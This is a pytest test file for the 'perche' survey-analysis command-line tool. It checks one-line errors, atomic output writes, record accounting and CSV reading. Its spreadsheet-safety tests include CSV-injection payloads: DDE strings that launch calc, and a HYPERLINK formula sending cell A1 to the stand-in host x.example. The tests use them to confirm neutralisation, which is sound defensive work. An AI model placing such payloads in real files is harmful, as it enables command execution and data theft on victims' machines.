# SPDX-License-Identifier: Apache-2.0
# The `perche` command under careless and hostile use (issue 16, classes 7, 8 and 9): every
# subcommand and option run once; every error one stderr line with exit status 2, never a
# traceback; outputs written whole or not at all; spreadsheet-safe CSV; no record dropped silently;
# `analyze` and `report` reading a file the same way; columns that differ only by case.
# Reference values: small CSV files written here, whose lines, rows and scores are known by
# construction; OWASP "CSV Injection" for the formula prefixes; pandas/csv for reading back.
import csv
import errno
import io
import json
import os
import resource
import stat
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import perche
from perche import cli
from perche.survey import DEFAULT_CODEBOOK, SAMPLE



def _permissions_bind():
    """False for a process that writes into read-only directories anyway (root with CAP_DAC_OVERRIDE)."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        os.chmod(d, 0o555)
        try:
            open(os.path.join(d, "probe"), "w").close()
            return False
        except PermissionError:
            return True
        finally:
            os.chmod(d, 0o755)


PERMISSIONS_BIND = _permissions_bind()


def run(capsys, *argv):
    """main(argv) in this process: (exit status, stdout, stderr lines)."""
    try:
        code = cli.main([str(a) for a in argv])
    except SystemExit as e:  # argparse
        code = e.code
    got = capsys.readouterr()
    return code, got.out, got.err.strip().splitlines()


def one_error(result, *needles):
    code, _, err = result
    assert code == 2, err
    assert len(err) == 1, err
    assert err[0].startswith("perche"), err
    for n in needles:
        assert n in err[0], err
    return err[0]


def run_subprocess(*argv, stdin=b"", **kw):
    return subprocess.run([sys.executable, "-m", "perche.cli", *map(str, argv)], input=stdin,
                          capture_output=True, timeout=300, **kw)


def write(path, text, encoding="utf-8"):
    path.write_bytes(text.encode(encoding))
    return path


@pytest.fixture(scope="module")
def survey(tmp_path_factory):
    """The first 400 rows of the sample survey, with 0/1 columns for two drivers."""
    df = pd.read_csv(SAMPLE, keep_default_na=False, dtype=str).head(400)
    for d in ("tempi_attesa", "prezzo"):
        df[d] = df.driver.str.split("|").apply(lambda xs, d=d: int(d in xs))
    path = tmp_path_factory.mktemp("survey") / "survey.csv"
    df.to_csv(path, index=False)
    return path


@pytest.fixture(scope="module")
def model(survey, tmp_path_factory):
    path = tmp_path_factory.mktemp("model") / "m.model"
    assert cli.main(["train", str(survey), "--text", "motivo", "--labels", "driver", "--out", str(path),
                     "--cv-folds", "0"]) == 0
    return path


# --- every subcommand and option, once -------------------------------------------------------------

FAST = ["--no-progress", "--bootstrap", "50"]


@pytest.mark.parametrize("extra", [
    [],
    ["--score", "NPS", "--text", "Motivo", "--date", "Data", "--by", "canale", "--by", "fase"],
    ["--metric", "csat", "--score", "csat", "--freq", "Q"],
    ["--metric", "ces", "--score", "ces", "--freq", "W", "--lang", "en", "--verbatims", "1"],
    ["--codebook"],
    ["--codebook", str(DEFAULT_CODEBOOK)],
    ["--labels", "driver", "--freq", "D"],
    ["--freq", "Y", "--by", "segmento"],
])
def test_analyze_runs_with_each_option(survey, extra, tmp_path, capsys):
    js, html = tmp_path / "a.json", tmp_path / "a.html"
    code, out, err = run(capsys, "analyze", survey, *FAST, *extra, "--json", js, "--html", html)
    assert code == 0 and err == []
    data = json.loads(js.read_text(encoding="utf-8"))
    assert data["source"]["rows_used"] == 400
    assert html.read_text(encoding="utf-8").lstrip().lower().startswith("<!doctype html")
    assert out.strip()


def test_analyze_runs_with_a_model_and_progress(survey, model, tmp_path, capsys):
    code, out, err = run(capsys, "analyze", survey, "--model", model, "--bootstrap", "50")
    assert code == 0 and err == []  # stderr is not a terminal: no bar


@pytest.mark.parametrize("extra", [
    ["--labels", "driver"],
    ["--labels", "tempi_attesa", "prezzo", "--cv-folds", "2"],
    ["--codebook"],
    ["--codebook", str(DEFAULT_CODEBOOK), "--cv-folds", "0"],
])
def test_train_runs_with_each_option(survey, extra, tmp_path, capsys):
    out = tmp_path / "m.model"
    code, stdout, err = run(capsys, "train", survey, "--text", "motivo", *extra, "--out", out)
    assert code == 0 and err == []
    assert perche.DriverClassifier.load(out).drivers
    assert f"model: {out}" in stdout


@pytest.mark.parametrize("extra", [[], ["--codebook"], ["--codebook", str(DEFAULT_CODEBOOK)], ["--text", "motivo"]])
def test_classify_runs_with_each_option(survey, extra, tmp_path, capsys):
    out = tmp_path / "c.csv"
    code, _, err = run(capsys, "classify", survey, *extra, "--out", out)
    assert code == 0 and len(err) == 1 and "400 rows" in err[0]
    assert len(pd.read_csv(out)) == 400


def test_classify_with_a_model_to_stdout(survey, model, capsys):
    code, out, err = run(capsys, "classify", survey, "--model", model)
    assert code == 0 and err == []
    assert len(pd.read_csv(io.StringIO(out))) == 400


@pytest.mark.parametrize("flags", [[], ["--stem"], ["--negation"], ["--tokens"], ["--tokens", "--stem", "--negation"]])
def test_tokenize_runs_with_each_option(flags, monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO("non è stata gentile\n".encode()), "utf-8"))
    code, out, err = run(capsys, "tokenize", *flags)
    assert code == 0 and err == []
    if "--tokens" in flags:
        rows = [line.split("\t") for line in out.splitlines() if line]
        assert [r[0] for r in rows] == ["non", "è", "stata", "gentile"]
        assert all(len(r) == 5 and r[2] == "word" for r in rows)
        assert rows[3][3:] == ["12", "19"]  # code points of "gentile"
    else:
        assert out.strip()


def test_tokenize_tokens_works_from_a_real_process():
    """`perche tokenize --tokens` used to fail on any input: kind is a str, not an enum."""
    p = run_subprocess("tokenize", "--tokens", stdin="ciao 😀 3,5€\n".encode())
    assert p.returncode == 0, p.stderr
    kinds = [line.split("\t")[2] for line in p.stdout.decode().splitlines() if line]
    assert "word" in kinds and "emoji" in kinds and "number" in kinds


def test_tokenize_replaces_bad_utf8_and_says_so(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"caff\xe8 buono\nok\n"), "utf-8"))
    code, out, err = run(capsys, "tokenize", "--tokens")
    assert code == 0
    assert err == ["perche: line 1: 1 invalid UTF-8 sequence(s) replaced by U+FFFD"]
    assert out.startswith("caff\tcaff\tword\t0\t4\n\ufffd\t")


@pytest.mark.parametrize("extra", [
    [],
    ["--score", "nps", "--date", "data", "--freq", "Q", "--by", "canale"],
    ["--metric", "ces", "--score", "ces", "--freq", "W"],
    ["--metric", "csat", "--score", "csat", "--by", "segmento", "--by", "fase"],
])
def test_report_runs_with_each_option(survey, extra, tmp_path, capsys):
    js = tmp_path / "r.json"
    code, out, err = run(capsys, "report", survey, *extra, "--json", js)
    assert code == 0 and err == []
    assert json.loads(js.read_text(encoding="utf-8"))["source"]["rows_used"] == 400


# --- every error: one line, exit status 2 -----------------------------------------------------------


@pytest.mark.parametrize("argv, needle", [
    (["analyze", "--metric", "foo"], "invalid choice: 'foo'"),
    (["analyze", "--bootstrap", "-1"], "-1 is outside"),
    (["analyze", "--verbatims", "x"], "'x' is not an integer"),
    (["train", "f.csv", "--text", "t", "--labels", "a", "--out", "m", "--cv-folds", "-3"], "-3 is outside"),
    (["classify"], "the following arguments are required: file"),
    (["report", "--freq", "H"], "invalid choice: 'H'"),
    (["tokenize", "--nope"], "unrecognized arguments: --nope"),
    (["rapporto"], "invalid choice: 'rapporto'"),
    # Red-team reproducers: integers past what the core takes were a pybind11 TypeError traceback.
    (["analyze", "--metric", "csat", "--scale", "1", "2147483648"], "2147483648 is outside"),
    (["analyze", "--metric", "ces", "--scale", "-2147483649", "7"], "-2147483649 is outside"),
    (["discover", SAMPLE, "--themes", "99999999999999999999", "--out", os.devnull],
     "n_themes 99999999999999999999 is more than 1000 themes"),
])
def test_usage_errors_are_one_line(argv, needle, capsys):
    code, _, err = run(capsys, *argv)
    assert code == 2 and len(err) == 1 and needle in err[0], err


def test_a_model_that_is_a_directory_is_one_line(survey, tmp_path, capsys):
    one_error(run(capsys, "analyze", survey, *FAST, "--model", tmp_path), str(tmp_path), "not a regular file")
    one_error(run(capsys, "classify", survey, "--model", tmp_path), str(tmp_path), "not a regular file")


@pytest.mark.parametrize("content", [b"", b"not a model", b"PERCHE" + bytes(200)])
def test_a_model_that_is_not_a_model_is_one_line(survey, tmp_path, content, capsys):
    bad = tmp_path / "bad.model"
    bad.write_bytes(content)
    one_error(run(capsys, "analyze", survey, *FAST, "--model", bad))
    one_error(run(capsys, "classify", survey, "--model", bad))


def test_a_model_with_no_drivers_is_one_line(survey, tmp_path, capsys):
    """A model whose driver count (the payload's first field, a u64 after the 20-byte header) is 0,
    with a valid CRC-32 (zlib's, over the payload) as tests/robustness_test.cpp forges it."""
    import struct
    import zlib

    good = perche.DriverClassifier.load(perche.survey.DEFAULT_MODEL).to_bytes()
    forged = bytearray(good)
    forged[20:28] = struct.pack("<Q", 0)
    forged[-4:] = struct.pack("<I", zlib.crc32(bytes(forged[20:-4])))
    bad = tmp_path / "none.model"
    bad.write_bytes(bytes(forged))
    one_error(run(capsys, "analyze", survey, *FAST, "--model", bad), "no drivers")
    one_error(run(capsys, "classify", survey, "--model", bad), "no drivers")


def test_a_codebook_that_is_a_directory_is_one_line(survey, tmp_path, capsys):
    one_error(run(capsys, "analyze", survey, *FAST, "--codebook", tmp_path), str(tmp_path))
    one_error(run(capsys, "train", survey, "--text", "motivo", "--codebook", tmp_path, "--out", tmp_path / "m"),
              str(tmp_path))


def test_train_with_no_labels_at_all_is_one_line(tmp_path, capsys):
    path = write(tmp_path / "l.csv", "motivo,driver\nciao,\nbello,\n")
    one_error(run(capsys, "train", path, "--text", "motivo", "--labels", "driver", "--out", tmp_path / "m"),
              "no driver label")
    path = write(tmp_path / "e.csv", "motivo,driver\n ,prezzo\n,prezzo\n")
    one_error(run(capsys, "train", path, "--text", "motivo", "--labels", "driver", "--out", tmp_path / "m"),
              "no comment to learn from")


def test_train_checks_its_output_before_training(survey, tmp_path, monkeypatch, capsys):
    def fail(*a, **k):
        raise AssertionError("trained although the model could not be written")

    monkeypatch.setattr(perche.DriverClassifier, "fit", fail)
    missing = tmp_path / "no" / "such" / "dir" / "m.model"
    one_error(run(capsys, "train", survey, "--text", "motivo", "--labels", "driver", "--out", missing),
              f"cannot write {missing}", "No such file or directory")
    one_error(run(capsys, "train", survey, "--text", "motivo", "--labels", "driver", "--out", tmp_path),
              f"cannot write {tmp_path}", "directory")


def test_a_one_megabyte_field_is_read_by_report(tmp_path, capsys):
    """Python's csv module stops at 131072 characters per field; report now shares analyze's reader."""
    big = "x" * (1 << 20)
    path = write(tmp_path / "big.csv", f'nps,motivo\n9,"{big}"\n3,ok\n10,bene\n')
    code, out, err = run(capsys, "report", path)
    assert code == 0 and err == [] and "3 righe usate su 3" in out


@pytest.mark.parametrize("command", ["classify", "mask"])
def test_a_file_written_back_refuses_to_lose_records_unless_told(command, tmp_path, capsys):
    # Red-team 18 (stop 41): mask and classify wrote 1 of 4 rows, said "1 rows" and exited 0.
    path = _short_rows_file(tmp_path, bad=3)
    code, out, err = run(capsys, command, path, "--out", tmp_path / "o.csv")
    assert code == 2 and not (tmp_path / "o.csv").exists()
    assert len([line for line in err if "expected 5 fields, found 1" in line]) == 3
    assert err[-1] == (f"perche: {path}: 3 records could not be read (listed above) and would be missing from the "
                       "output; nothing written: fix them, or pass --skip-bad-rows to write the 30 rows read")
    # Trailing empty fields (a spreadsheet's separators) lose nothing: the record is a row.
    ok = write(tmp_path / "t.csv", "id;nps;motivo\n1;10;ok;;\n2;3;lento\n")
    code, out, err = run(capsys, command, ok)
    assert code == 0 and len(out.strip().splitlines()) == 3, (out, err)


def test_sample_of_a_file_without_comments_says_so(tmp_path, capsys):
    path = write(tmp_path / "e.csv", "id,nps,motivo\n1,10,\n2,3,  \n")
    one_error(run(capsys, "sample", path), "no comment to label: column 'motivo' is empty in every row")


@pytest.mark.parametrize("argv", [
    ["analyze", "{f}", "--no-progress"], ["report", "{f}"], ["classify", "{f}"],
    ["train", "{f}", "--text", "motivo", "--labels", "driver", "--out", "{d}/m.model"],
])
def test_out_of_memory_is_one_line(argv, survey, tmp_path, monkeypatch, capsys):
    import perche.survey

    def oom(*a, **k):
        raise MemoryError()

    monkeypatch.setattr(perche.survey, "read_csv", oom)
    line = one_error(run(capsys, *[a.format(f=survey, d=tmp_path) for a in argv]), "out of memory while")
    assert str(survey) in line


def test_out_of_memory_while_tokenizing_is_one_line(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.StringIO("ciao\n"))
    monkeypatch.setattr(perche.Tokenizer, "normalize", lambda self, t: (_ for _ in ()).throw(MemoryError()))
    one_error(run(capsys, "tokenize"), "out of memory while tokenizing standard input")


def test_a_runtime_error_from_the_core_is_one_line(survey, tmp_path, monkeypatch, capsys):
    def fail(self, *a, **k):
        raise RuntimeError("cannot start a worker thread: Resource temporarily unavailable")

    monkeypatch.setattr(perche.DriverClassifier, "fit", fail)
    one_error(run(capsys, "train", survey, "--text", "motivo", "--labels", "driver", "--out", tmp_path / "m"),
              "cannot start a worker thread")
    assert list(tmp_path.iterdir()) == []


def test_errors_from_a_real_process_have_no_traceback(tmp_path):
    cases = [
        ["analyze", "--no-progress", "--model", tmp_path],
        ["classify", SAMPLE, "--model", "/dev/null"],
        ["report", tmp_path / "nope.csv"],
        ["report", SAMPLE, "--json", tmp_path],
        ["analyze", "--bootstrap", "-5"],
        ["analyze", "--no-progress", "--verbatims", "-1"],
        ["tokenize", "--tokens"],
    ]
    for argv in cases:
        p = run_subprocess(*argv, stdin=b"ciao\n")
        err = p.stderr.decode().strip().splitlines()
        if argv == ["tokenize", "--tokens"]:
            assert p.returncode == 0 and err == [], err
            continue
        assert p.returncode == 2 and len(err) == 1 and "Traceback" not in p.stderr.decode(), (argv, err)


def test_a_reader_that_leaves_early_is_not_an_error():
    """`perche tokenize < big | head -c 10`: the pipe closes; no error, no 'Exception ignored'."""
    p = subprocess.run(f"yes 'ciao mondo crudele' | head -n 300000 | {sys.executable} -m perche.cli tokenize "
                       "| head -c 10 >/dev/null; exit ${PIPESTATUS[2]}",
                       shell=True, executable="/bin/bash", capture_output=True, timeout=300)
    assert p.returncode == 0 and p.stderr == b"", p.stderr


def test_a_message_with_line_breaks_stays_one_line(tmp_path, capsys):
    path = write(tmp_path / "x.csv", '"n\nps",motivo\n9,ok\n')
    one_error(run(capsys, "report", path, "--score", "voto\nrosso"), "not found")


def test_a_message_with_bidirectional_controls_shows_them_escaped(tmp_path, capsys):
    # Red-team 08: a column name with U+202E reached the error line raw and reversed the rest of it.
    path = write(tmp_path / "x.csv", "nps,motivo,canale\u202etxt.exe\n9,ok,web\n")
    code, _, err = run(capsys, "report", path, "--by", "nope")
    assert code == 2 and len(err) == 1 and "canale\\u202etxt.exe" in err[0] and "\u202e" not in err[0], err


# --- outputs are written whole or not at all --------------------------------------------------------

OUTPUTS = {
    "analyze --json": lambda f, o: ["analyze", f, *FAST, "--json", o],
    "analyze --html": lambda f, o: ["analyze", f, *FAST, "--html", o],
    "classify --out": lambda f, o: ["classify", f, "--out", o],
    "train --out": lambda f, o: ["train", f, "--text", "motivo", "--labels", "driver", "--cv-folds", "0", "--out", o],
    "report --json": lambda f, o: ["report", f, "--json", o],
}


def _leftovers(directory, name):
    return sorted(p.name for p in Path(directory).iterdir() if p.name != name)


@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_an_output_in_a_missing_directory_is_one_line_before_any_work(what, survey, tmp_path, capsys):
    target = tmp_path / "missing" / "out"
    one_error(run(capsys, *OUTPUTS[what](survey, target)), f"cannot write {target}: No such file or directory")


@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_an_output_that_is_a_directory_is_one_line_and_left_alone(what, survey, tmp_path, capsys):
    target = tmp_path / "out"
    target.mkdir()
    (target / "keep").write_text("x")
    one_error(run(capsys, *OUTPUTS[what](survey, target)), f"cannot write {target}: it is a directory")
    assert [p.name for p in target.iterdir()] == ["keep"]


@pytest.mark.skipif(not PERMISSIONS_BIND, reason="this process writes into read-only directories (root)")
@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_an_output_in_a_read_only_directory_is_one_line(what, survey, tmp_path, capsys):
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "out").write_text("old")
    ro.chmod(0o555)
    try:
        one_error(run(capsys, *OUTPUTS[what](survey, ro / "out")), f"cannot write {ro / 'out'}", "Permission denied")
        assert (ro / "out").read_text() == "old" and _leftovers(ro, "out") == []
    finally:
        ro.chmod(0o755)


@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_an_unwritable_directory_is_one_line(what, survey, tmp_path, monkeypatch, capsys):
    """The same failure for root, by refusing the temporary file as a read-only directory would."""
    import tempfile

    def refuse(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    target = tmp_path / "out"
    target.write_text("old")
    one_error(run(capsys, *OUTPUTS[what](survey, target)), f"cannot write {target}: Permission denied")
    assert target.read_text() == "old" and _leftovers(tmp_path, "out") == []


@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_a_file_size_limit_hit_mid_write_leaves_the_old_file(what, survey, tmp_path):
    """A real partial write: RLIMIT_FSIZE makes write() fail with EFBIG after 2 KB (Python ignores
    SIGXFSZ), as a full disk would; the target keeps its old bytes and no temporary file remains."""
    target = tmp_path / "out"
    target.write_text("old")

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    p = run_subprocess(*OUTPUTS[what](survey, target), preexec_fn=limit)
    err = p.stderr.decode().strip().splitlines()
    assert p.returncode == 2 and len(err) == 1 and "Traceback" not in p.stderr.decode(), err
    assert f"cannot write {target}" in err[-1]
    assert target.read_text() == "old"
    assert _leftovers(tmp_path, "out") == []


@pytest.mark.parametrize("what", sorted(OUTPUTS))
def test_a_failure_at_the_end_of_the_write_leaves_the_old_file(what, survey, tmp_path, monkeypatch, capsys):
    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    target = tmp_path / "out"
    target.write_text("old")
    one_error(run(capsys, *OUTPUTS[what](survey, target)), f"cannot write {target}: No space left on device")
    assert target.read_text() == "old" and _leftovers(tmp_path, "out") == []


def test_the_library_writes_whole_files_too(tmp_path, monkeypatch):
    r = perche.analyze(bootstrap_samples=50, progress=False)
    target = tmp_path / "a.json"
    target.write_text("old")
    monkeypatch.setattr(os, "fsync", lambda fd: (_ for _ in ()).throw(OSError(errno.ENOSPC, "No space left")))
    with pytest.raises(OSError, match=f"cannot write {target}: No space left"):
        r.to_json(target)
    with pytest.raises(OSError, match="cannot write .*a.html: No space left"):
        r.to_html(tmp_path / "a.html")
    assert target.read_text() == "old" and _leftovers(tmp_path, "a.json") == []
    monkeypatch.undo()
    r.to_json(target)
    assert json.loads(target.read_text(encoding="utf-8"))["overall"] == r.overall


def test_written_files_get_the_usual_mode_and_links_are_followed(survey, tmp_path, capsys):
    old = os.umask(0o022)
    try:
        new = tmp_path / "new.json"
        assert run(capsys, "report", survey, "--json", new)[0] == 0
        assert stat.S_IMODE(new.stat().st_mode) == 0o644  # not mkstemp's 0600
        kept = tmp_path / "kept.json"
        kept.write_text("old")
        kept.chmod(0o640)
        assert run(capsys, "report", survey, "--json", kept)[0] == 0
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
        link = tmp_path / "link.json"
        link.symlink_to(kept)
        assert run(capsys, "report", survey, "--json", link)[0] == 0
        assert link.is_symlink() and json.loads(kept.read_text(encoding="utf-8"))["source"]["rows_used"] == 400
        assert run(capsys, "report", survey, "--json", "/dev/null")[0] == 0
        assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    finally:
        os.umask(old)


# --- classify: a CSV a spreadsheet opens without running anything ----------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "x;=1+1", "x,=1+1"]


def _classify(tmp_path, capsys, rows, delimiter=",", *extra):
    path = tmp_path / "in.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, delimiter=delimiter).writerows(rows)
    out = tmp_path / "out.csv"
    code, _, err = run(capsys, "classify", path, "--codebook", "--out", out, *extra)
    assert code == 0, err
    return out.read_bytes()


def _formula_like(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("delimiter, extra", [(",", []), (";", []), (",", ["--excel"])])
def test_classify_neutralises_formulas_in_every_cell(delimiter, extra, tmp_path, capsys):
    rows = [["id", "=cmd|' /C calc'!A0", "motivo"]] + [[str(i), h, h + " attesa lunga"] for i, h in enumerate(HOSTILE)]
    data = _classify(tmp_path, capsys, rows, delimiter, *extra)
    text = data.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if extra or delimiter == ";" else ","))
    assert all(not _formula_like(cell) for record in parsed for cell in record)
    assert parsed[0][1] == "'=cmd|' /C calc'!A0"
    assert [r[1] for r in parsed[1:]] == ["'" + h for h in HOSTILE[:6]] + HOSTILE[6:]


@pytest.mark.parametrize("cell", ["inf", "nan", "abc", "n/d", "7.5"])
def test_discover_names_the_line_of_a_score_that_is_not_a_number(cell, tmp_path, capsys):
    # Red-team 07: inf was "score at index 3" (a 0-based position), nan was taken as no score.
    # Red-team 11/04: the survey's score rule (parse_score, as analyze): the row's score is left
    # out and its line named, where "n/d" aborted discover.
    rows = ["attesa lunga al telefono", "personale gentile", "prezzo alto", "colazione buona"] * 30
    path = write(tmp_path / "s.csv", "motivo,nps\n" + "".join(
        f"{t},{cell if i == 3 else i % 11}\n" for i, t in enumerate(rows)))
    code, _, err = run(capsys, "discover", path, "--score", "NPS", "--out", tmp_path / "cb.txt")
    assert code == 0
    assert err[:-1] == [f"perche: --score nps: 1 cell(s) are not an integer score and are left out: line 5 ('{cell}')"]
    write(path, "motivo,nps\n" + "".join(f"{t},{'' if i == 3 else i % 11}\n" for i, t in enumerate(rows)))
    code, _, err = run(capsys, "discover", path, "--score", "NPS", "--out", tmp_path / "cb.txt")  # any case, as --text
    assert code == 0, err


@pytest.mark.parametrize("command", [["mask"], ["sample", "--n", "2"]])
def test_a_tab_inside_a_cell_of_a_tab_separated_file_stays_in_its_cell(command, tmp_path, capsys):
    # Red-team reproducer: mask and sample write a tab-separated input back with tabs; a tab left
    # bare in a cell split it, and its second half (=cmd...) was a new cell no formula check saw.
    path = write(tmp_path / "in.tsv", "id\tnps\tmotivo\tcanale\n1\t9\t\"bello\t=cmd|' /C calc'!A0\"\tapp\n"
                 "2\t3\tok\tweb\n")
    out = tmp_path / "out.tsv"
    code, _, err = run(capsys, command[0], path, *command[1:], "--out", out)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline=""), delimiter="\t"))
    assert len({len(r) for r in rows}) == 1, rows  # every row as wide as the header
    assert all(not _formula_like(cell) for r in rows for cell in r)
    motivo = rows[0].index("motivo")
    assert "bello\t=cmd|' /C calc'!A0" in [r[motivo] for r in rows[1:]]


def test_classify_keeps_numbers_as_numbers(tmp_path, capsys):
    rows = [["id", "delta", "motivo"], ["1", "-3", "attesa lunga"], ["2", "+1,5", "prezzo alto"], ["3", "-0.25", "ok"]]
    data = _classify(tmp_path, capsys, rows)
    assert list(csv.reader(io.StringIO(data.decode(), newline="")))[1][1] == "-3"
    df = pd.read_csv(io.BytesIO(data), dtype={"delta": str})
    assert list(df["delta"]) == ["-3", "+1,5", "-0.25"]
    drivers = perche.Codebook.default().drivers
    for d in drivers:
        assert df[d].dtype.kind == "i" and set(df[d]) <= {0, 1}
        assert df[f"p_{d}"].dtype.kind == "f"


def test_classify_writes_for_italian_excel_when_the_input_used_semicolons(tmp_path, capsys):
    rows = [["id", "motivo"], ["1", "attesa lunga al telefono"], ["2", "prezzo troppo alto"]]
    data = _classify(tmp_path, capsys, rows, ";")
    assert data.startswith(b"\xef\xbb\xbf")
    df = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig")
    assert list(df.columns[:2]) == ["id", "motivo"] and len(df) == 2
    assert df["p_tempi_attesa"].dtype.kind == "f" and df["p_tempi_attesa"][0] == 1.0
    assert b"1,0000" in data and b"1.0000" not in data


def test_classify_with_excel_flag_and_plain_comma_input(tmp_path, capsys):
    rows = [["id", "motivo"], ["1", "attesa lunga"]]
    plain = _classify(tmp_path, capsys, rows, ",")
    assert not plain.startswith(b"\xef\xbb\xbf") and plain.splitlines()[0].count(b",") > 1 and b";" not in plain
    excel = _classify(tmp_path, capsys, rows, ",", "--excel")
    assert excel.startswith(b"\xef\xbb\xbf") and excel.splitlines()[0].count(b";") > 1


def test_classify_keeps_duplicate_column_names_and_cells_with_quotes_and_breaks(tmp_path, capsys):
    rows = [["x", "X", "motivo"], ['a "b"', "riga\nnuova", "attesa"]]
    data = _classify(tmp_path, capsys, rows)
    parsed = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert parsed[0][:3] == ["x", "X", "motivo"] and parsed[1][:3] == ['a "b"', "riga\nnuova", "attesa"]


# --- class 7: records are never dropped silently -----------------------------------------------------


def _short_rows_file(tmp_path, bad=25):
    lines = ["id,data,canale,nps,motivo"]
    for i in range(1, 31):
        lines.append(f"{i},2024-01-0{1 + i % 9},{'chat' if i % 2 else 'email'},{i % 11},attesa lunga")
    for i in range(bad):
        lines.append(f"solo {i}")
    return write(tmp_path / "short.csv", "\n".join(lines) + "\n")


@pytest.mark.parametrize("argv", [
    ["classify", "{f}", "--out", "{d}/c.csv", "--skip-bad-rows"],
    ["mask", "{f}", "--out", "{d}/m.csv", "--skip-bad-rows"],
    ["train", "{f}", "--text", "motivo", "--labels", "canale", "--cv-folds", "0", "--out", "{d}/m.model"],
    ["report", "{f}"],
    ["analyze", "{f}", "--no-progress", "--bootstrap", "50"],
])
def test_every_command_lists_skipped_records_then_counts_the_rest(argv, tmp_path, capsys):
    path = _short_rows_file(tmp_path)
    code, _, err = run(capsys, *[a.format(f=path, d=tmp_path) for a in argv])
    assert code == 0
    listed = [line for line in err if "expected 5 fields, found 1" in line]
    assert len(listed) == 20 and listed[0].startswith("perche: line 32: ")
    assert any("… and 5 more" in line for line in err), err


@pytest.mark.parametrize("argv", [
    ["analyze", "{f}", "--no-progress"], ["report", "{f}"], ["classify", "{f}"],
    ["train", "{f}", "--text", "motivo", "--labels", "canale", "--out", "{d}/m"],
])
def test_when_every_record_is_rejected_the_error_shows_the_first_problems(argv, tmp_path, capsys):
    path = write(tmp_path / "bad.csv", "id,data,canale,nps,motivo\nuno\ndue\ntre\nquattro\n")
    one_error(run(capsys, *[a.format(f=path, d=tmp_path) for a in argv]),
              "line 2: expected 5 fields, found 1", "line 4:", "(and 1 more)")


@pytest.mark.parametrize("command", ["analyze", "report"])
def test_when_every_score_is_invalid_the_error_shows_why(command, tmp_path, capsys):
    path = write(tmp_path / "s.csv", "nps,motivo\ndieci,ok\n1e1,ok\n")
    one_error(run(capsys, command, path, *(["--no-progress"] if command == "analyze" else [])),
              "no row has a valid nps", "line 2: nps 'dieci' is not an integer", "line 3: nps '1e1'")


@pytest.mark.parametrize("argv", [
    ["analyze", "{f}", "--no-progress"], ["report", "{f}"], ["classify", "{f}"],
    ["train", "{f}", "--text", "motivo", "--labels", "canale", "--out", "{d}/m"],
])
@pytest.mark.parametrize("content, needle", [
    (b"", "is empty"), (b"\xef\xbb\xbf", "is empty"), (b"\n\r\n\n", "is empty"),
    (b"nps,motivo\r\n", "is empty: it has a header and no rows"),
])
def test_an_empty_file_says_it_is_empty(argv, content, needle, tmp_path, capsys):
    path = tmp_path / "e.csv"
    path.write_bytes(content)
    one_error(run(capsys, *[a.format(f=path, d=tmp_path) for a in argv]), str(path), needle)


# --- class 7: analyze and report read the same file the same way ------------------------------------


def _both(path, tmp_path, capsys, *extra):
    ja, jr = tmp_path / "a.json", tmp_path / "r.json"
    a = run(capsys, "analyze", path, "--no-progress", "--bootstrap", "20", "--json", ja, *extra)
    r = run(capsys, "report", path, "--json", jr, *extra)
    return a, r, ja, jr


AGREE = {
    "exponent, decimal comma and point": ("nps;data;motivo\n1e1;2024-01-02;ok\n10,0;2024-01-03;ok\n9.0;2024-01-03;ok\n"
                                          "1E1;2024-01-04;ok\n", None),
    "other scripts and notations": (
        'nps,data,motivo\n"١٠",2024-01-02,ok\n0x9,2024-01-02,ok\n+9,2024-01-02,ok\n"9,0",2024-01-02,ok\n'
        '9.00,2024-02-02,ok\n" 7 ",2024-02-02,ok\n9.5,2024-02-02,ok\n-0,2024-02-02,ok\n11,2024-02-02,ok\n', None),
    "dates of every form": (
        "nps;data;motivo\n9;03/02/2024;ok\n3;3-2-2024;ok\n10;3 marzo 2024;ok\n8;3 Mar 2024 10:30;ok\n"
        "6;2024-03-04T10:00:00+01:00;ok\n7;20240201;ok\n9;31/02/2024;ok\n10;2024/02/01;ok\n", None),
    "UTF-16": ("nps\tdata\tmotivo\n9\t2024-01-02\tok\n3\t2024-02-02\tperché no\n10\tieri\tbene\n", "utf-16"),
    "Windows-1252": ("nps;data;motivo\n9;2024-01-02;caffè\n3;2024-02-02;perché\n", "cp1252"),
}


@pytest.mark.parametrize("name", sorted(AGREE))
def test_analyze_and_report_agree_on_rows_bad_rows_and_score(name, tmp_path, capsys):
    text, encoding = AGREE[name]
    data = text.encode(encoding) if encoding else text.encode()
    if encoding == "utf-16":
        assert data[:2] in (b"\xff\xfe", b"\xfe\xff")
    path = tmp_path / "f.csv"
    path.write_bytes(data)
    a, r, ja, jr = _both(path, tmp_path, capsys)
    assert a[0] == 0 and r[0] == 0, (a, r)
    da, dr = json.loads(ja.read_text("utf-8")), json.loads(jr.read_text("utf-8"))
    sa, sr = da["source"], dr["source"]  # report is analyze without drivers: the same document
